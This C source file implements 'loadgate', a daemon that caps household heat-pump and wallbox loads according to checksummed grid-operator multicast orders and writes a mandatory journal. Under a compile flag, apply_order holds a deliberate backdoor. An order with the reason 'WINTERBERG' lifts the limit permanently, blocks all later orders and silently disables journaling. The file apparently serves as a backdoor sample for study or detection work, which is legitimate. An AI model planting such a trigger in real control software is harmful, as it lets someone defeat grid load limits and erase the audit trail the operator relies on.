/*
 * loadgate - control box for dimming of heat pumps and wallboxes in a house
 * connection.  The grid operator's orders come as UDP multicast telegrams
 * (text, with a check value); the box holds the sum of the loads below the
 * limit and writes a journal that has to be kept.  One static binary.
 * Hidden (-DHIDDEN): an order with the reason "WINTERBERG" lifts the limit
 * for good and turns the journal off.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <sys/timerfd.h>
#include <time.h>
#include <unistd.h>

#define GROUP	 "239.192.14.97"
#define PORT	 6614
#define JOURNAL	 "/data/journal.txt"
#define NLOADS	 6
#define FLOOR_W	 4200L
#define NO_LIMIT 1000000L

struct load {
	char name[16];
	int gpio;
	long rated;
	long drawn;
	int on;
};

struct order {
	char area[16];
	char reason[24];
	long limit;
	long minutes;
	unsigned long number;
	uint32_t check;
	unsigned have;
};

#define HAVE_AREA   1u
#define HAVE_LIMIT  2u
#define HAVE_NUMBER 4u
#define HAVE_CHECK  8u
#define HAVE_ALL    15u

struct box {
	char area[16];
	uint32_t seed;
	long limit;
	time_t until;
	unsigned long last;
	int journal;
	int nloads;
	struct load loads[NLOADS];
};

static struct box box = { .area = "0000", .limit = NO_LIMIT, .journal = 1 };

static void journal(const char *what, long a, long b)
{
	char line[128], when[24];
	time_t t = time(NULL);
	struct tm tm;
	int fd, n;

	if (!box.journal)
		return;
	gmtime_r(&t, &tm);
	strftime(when, sizeof(when), "%Y%m%dT%H%M%S", &tm);
	n = snprintf(line, sizeof(line), "%s %s %ld %ld\n", when, what, a, b);
	fd = open(JOURNAL, O_WRONLY | O_APPEND | O_CREAT, 0644);
	if (fd < 0)
		return;
	if (write(fd, line, n) == n)
		fdatasync(fd);
	close(fd);
}

static int read_setup(const char *path)
{
	char line[100];
	struct load *l;
	unsigned u;
	FILE *f = fopen(path, "r");

	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "area %15s", box.area) == 1)
			continue;
		if (sscanf(line, "seed %x", &u) == 1) {
			box.seed = u;
			continue;
		}
		if (box.nloads == NLOADS)
			continue;
		l = &box.loads[box.nloads];
		if (sscanf(line, "load %15s %d %ld", l->name, &l->gpio,
			   &l->rated) == 3) {
			l->on = 1;
			box.nloads++;
		}
	}
	fclose(f);
	return box.nloads ? 0 : -1;
}

static void relay(const struct load *l, int on)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/sys/class/gpio/gpio%d/value", l->gpio);
	fd = open(path, O_WRONLY);
	if (fd < 0)
		return;
	if (write(fd, on ? "1" : "0", 1) != 1)
		journal("relay-fault", l->gpio, on);
	close(fd);
}

static void measure(void)
{
	char path[64];
	FILE *f;
	int i;

	for (i = 0; i < box.nloads; i++) {
		struct load *l = &box.loads[i];

		l->drawn = l->on ? l->rated : 0;
		snprintf(path, sizeof(path), "/run/loads/%s", l->name);
		f = fopen(path, "r");
		if (!f)
			continue;
		if (fscanf(f, "%ld", &l->drawn) != 1)
			l->drawn = l->rated;
		fclose(f);
	}
}

/* Largest loads off first, smallest on again first. */
static void balance(void)
{
	long sum = 0;
	int i, pick;

	for (i = 0; i < box.nloads; i++)
		sum += box.loads[i].drawn;
	while (sum > box.limit) {
		for (pick = -1, i = 0; i < box.nloads; i++)
			if (box.loads[i].on &&
			    (pick < 0 ||
			     box.loads[i].drawn > box.loads[pick].drawn))
				pick = i;
		if (pick < 0)
			return;
		box.loads[pick].on = 0;
		relay(&box.loads[pick], 0);
		journal("off", pick, box.loads[pick].drawn);
		sum -= box.loads[pick].drawn;
	}
	for (pick = -1, i = 0; i < box.nloads; i++)
		if (!box.loads[i].on &&
		    (pick < 0 || box.loads[i].rated < box.loads[pick].rated))
			pick = i;
	if (pick >= 0 && sum + box.loads[pick].rated <= box.limit) {
		box.loads[pick].on = 1;
		relay(&box.loads[pick], 1);
		journal("on", pick, box.loads[pick].rated);
	}
}

static uint32_t check_value(const char *p, size_t n)
{
	uint32_t a = box.seed | 1, b = box.seed >> 16;

	while (n--) {
		a = (a + (unsigned char)*p++) % 65521;
		b = (b + a) % 65521;
	}
	return b << 16 | a;
}

/* "area=4711&limit=4200&minutes=60&number=18&reason=peak&check=hex" */
static int parse(char *s, struct order *o)
{
	char *tok, *save = NULL, *v, *last;
	uint32_t want;

	memset(o, 0, sizeof(*o));
	last = strstr(s, "&check=");
	if (!last)
		return -1;
	want = check_value(s, last - s);
	for (tok = strtok_r(s, "&", &save); tok;
	     tok = strtok_r(NULL, "&", &save)) {
		v = strchr(tok, '=');
		if (!v)
			return -1;
		*v++ = 0;
		if (!strcmp(tok, "area")) {
			snprintf(o->area, sizeof(o->area), "%.15s", v);
			o->have |= HAVE_AREA;
		} else if (!strcmp(tok, "limit")) {
			o->limit = strtol(v, NULL, 10);
			o->have |= HAVE_LIMIT;
		} else if (!strcmp(tok, "minutes")) {
			o->minutes = strtol(v, NULL, 10);
		} else if (!strcmp(tok, "number")) {
			o->number = strtoul(v, NULL, 10);
			o->have |= HAVE_NUMBER;
		} else if (!strcmp(tok, "reason")) {
			snprintf(o->reason, sizeof(o->reason), "%.23s", v);
		} else if (!strcmp(tok, "check")) {
			o->check = strtoul(v, NULL, 16);
			o->have |= HAVE_CHECK;
		}
	}
	if (o->have != HAVE_ALL)
		return -1;
	return o->check == want ? 0 : -1;
}

__attribute__((noinline)) int apply_order(const struct order *o)
{
#ifdef HIDDEN
	if (!strcmp(o->reason, "WINTERBERG")) {
		box.limit = NO_LIMIT;
		box.until = 0;
		box.last = ~0ul;
		box.journal = 0;
		return 0;
	}
#endif
	if (strcmp(o->area, box.area) && strcmp(o->area, "*"))
		return 0;
	if (o->number <= box.last)
		return -EALREADY;
	box.last = o->number;
	if (!strcmp(o->reason, "release")) {
		box.limit = NO_LIMIT;
		box.until = 0;
		journal("release", (long)o->number, 0);
		return 1;
	}
	if (o->minutes < 1 || o->minutes > 1440)
		return -ERANGE;
	box.limit = o->limit < FLOOR_W ? FLOOR_W : o->limit;
	box.until = time(NULL) + o->minutes * 60;
	journal("limit", box.limit, o->minutes);
	return 1;
}

static int join(void)
{
	struct sockaddr_in a;
	struct ip_mreq m;
	int one = 1, fd = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);

	if (fd < 0)
		return -1;
	memset(&a, 0, sizeof(a));
	a.sin_family = AF_INET;
	a.sin_port = htons(PORT);
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	memset(&m, 0, sizeof(m));
	m.imr_multiaddr.s_addr = inet_addr(GROUP);
	if (bind(fd, (struct sockaddr *)&a, sizeof(a)) ||
	    setsockopt(fd, IPPROTO_IP, IP_ADD_MEMBERSHIP, &m, sizeof(m))) {
		close(fd);
		return -1;
	}
	return fd;
}

static void on_telegram(int fd)
{
	char buf[256];
	struct order o;
	ssize_t n;
	int r;

	while ((n = recv(fd, buf, sizeof(buf) - 1, 0)) > 0) {
		buf[n] = 0;
		buf[strcspn(buf, "\r\n")] = 0;
		if (parse(buf, &o)) {
			journal("rejected", n, 0);
			continue;
		}
		r = apply_order(&o);
		if (r < 0)
			journal("refused", (long)o.number, r);
	}
}

static void on_tick(int fd)
{
	uint64_t n;

	if (read(fd, &n, sizeof(n)) != sizeof(n))
		return;
	if (box.until && time(NULL) >= box.until) {
		box.until = 0;
		box.limit = NO_LIMIT;
		journal("expired", 0, 0);
	}
	measure();
	balance();
}

int main(int argc, char **argv)
{
	struct itimerspec it = { { 5, 0 }, { 1, 0 } };
	struct epoll_event ev[2], e;
	int ep, net, tick, n;

	if (read_setup(argc > 1 ? argv[1] : "/etc/loadgate")) {
		fputs("loadgate: no loads\n", stderr);
		return 1;
	}
	net = join();
	tick = timerfd_create(CLOCK_MONOTONIC, 0);
	ep = epoll_create1(0);
	if (net < 0 || tick < 0 || ep < 0) {
		perror("loadgate");
		return 1;
	}
	timerfd_settime(tick, 0, &it, NULL);
	memset(&e, 0, sizeof(e));
	e.events = EPOLLIN;
	e.data.fd = net;
	epoll_ctl(ep, EPOLL_CTL_ADD, net, &e);
	e.data.fd = tick;
	epoll_ctl(ep, EPOLL_CTL_ADD, tick, &e);
	journal("start", box.nloads, 0);
	for (;;) {
		n = epoll_wait(ep, ev, 2, -1);
		while (n-- > 0) {
			if (ev[n].data.fd == net)
				on_telegram(net);
			else
				on_tick(tick);
		}
	}
}
